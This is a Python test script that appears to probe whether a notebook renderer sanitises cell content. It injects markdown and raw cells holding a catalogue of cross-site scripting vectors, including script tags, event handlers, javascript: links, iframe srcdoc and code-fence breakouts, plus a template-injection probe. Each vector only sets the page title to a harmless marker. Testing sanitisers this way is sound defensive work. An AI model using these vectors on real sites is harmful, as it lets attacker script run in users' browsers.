"""Adds markdown and raw cells with scripts, handlers, formulas and templates."""

from attacks import after, fill, markdown, write

EARNS = {"double"}
RUN = "document.title='ESC'+'APED'"
TEXTS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}"> <svg onload="{RUN}"></svg> <details open ontoggle="{RUN}">x</details>',
    f"[a](javascript:{RUN}) [b](<java\tscript:{RUN}>) ![c](x){{onerror={RUN}}} <javascript:{RUN}>",
    f'<iframe srcdoc="<script>top.{RUN}</script>"></iframe><object data="javascript:{RUN}"></object>',
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$</script><script>{RUN}</script>$$ \\(<img src=x onerror=\"{RUN}\">\\)",
    f"```html\n</code></pre><script>{RUN}</script>\n```\n~~~<img src=x onerror={RUN}>\n~~~",
    f"{{{{ self.__init__ }}}} {{% raw %}} <style>body {{ display: none }}</style> <!-- --!><script>{RUN}</script>",
    f"# </title><script>{RUN}</script>\n\n| a |\n|---|\n| <img src=x onerror={RUN}> |\n\n[x]: javascript:{RUN}\n\n[x]",
)


def submit(folder, released, solved):
    document = fill(released, {"double": solved["double"]})
    cells = [markdown(text, f"text{number}") for number, text in enumerate(TEXTS)]
    raw = [dict(markdown(TEXTS[0], f"raw{kind[-4:]}"), cell_type="raw", metadata={"raw_mimetype": kind, "format": kind})
           for kind in ("text/html", "text/plain")]  # fmt: skip
    after(document, "check_double", *cells, *raw)
    write(folder, document)
